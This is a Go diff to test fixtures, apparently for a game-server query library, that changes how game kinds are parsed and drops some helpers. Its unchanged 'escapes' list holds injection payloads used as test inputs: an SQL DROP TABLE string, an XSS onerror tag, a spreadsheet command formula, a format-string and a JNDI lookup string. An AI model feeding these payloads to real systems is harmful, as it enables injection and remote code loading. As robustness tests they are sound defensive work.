@@ -4,7 +4,6 @@ import (
 	"bytes"
 	"embed"
 	"errors"
-	"slices"
 	"strconv"
 	"strings"
 
@@ -150,36 +149,21 @@ type simpleGame struct {
 var simpleGames = func() map[Kind][]*simpleGame {
 	all := map[Kind][]*simpleGame{}
 	rows("simple.txt", func(cells []string) {
-		kind := Kind(slices.Index(kindWords[:], cells[0]))
+		kind, err := ParseKinds(cells[0], nil)
 		app, err1 := strconv.ParseUint(cells[1], 10, 32)
 		protocol, err2 := strconv.ParseUint(cells[2], 10, 8)
-		if err := errors.Join(err1, err2); err != nil {
+		if err := errors.Join(err, err1, err2); err != nil {
 			panic(err)
 		}
 		t := constants(cells[3], cells[4], strings.ReplaceAll(cells[5], `\r`, "\r"), cells[6])
 		g := &simpleGame{uint32(app), uint8(protocol), t[0], t[1], t[2], t[3], constants(strings.Split(cells[7], "|")...)}
-		all[kind] = append(all[kind], g)
+		all[kind[0]] = append(all[kind[0]], g)
 	})
 	// A scan repeats RULES less often for Counter-Strike 2 than for other games (EC-99),
 	// so servers of the kind InfoOnly must also have other games.
 	all[InfoOnly] = append(all[InfoOnly], all[Source]...)
 	return all
 }()
-
-// arma is the game whose servers send binary pages. It is the last game of kind Source in
-// simple.txt.
-var arma = simpleGames[Source][len(simpleGames[Source])-1]
-
-func gamesOf(k Kind) []*simpleGame {
-	switch k {
-	case GoldSourceOld, GoldSourceMod, Both, SplitGoldSource:
-		k = GoldSource
-	case GoldSource, InfoOnly, Ship, Split, SplitNoSize, Packed:
-	default:
-		k = Source
-	}
-	return simpleGames[k]
-}
 
 // pluginVersions are the values of rules that are not in cvars.
 var pluginVersions = constants("1.0", "1.2.3", "2.0.1", "0.9b", "1.12.0.7163", "3.1")
@@ -201,9 +185,6 @@ var escapes = []string{
 	"\u202e", "\u2066\u2069", "\u009b2J", "=cmd|' /C calc'!A0", "<img src=x onerror=alert(1)>", "'; DROP TABLE servers; --",
 	"\r\n{\"schema\":1}\r\n", "\x08\x08\x08", "\ufeff\u200b", "%s%n%x", "${jndi:ldap://example.org}", "\"},\"status\":\"ok",
 }
-
-// maxPages is the maximum number of binary pages at the beginning of a list of rules.
-const maxPages = 7
 
 //go:embed cvars.txt simple.txt
 var files embed.FS
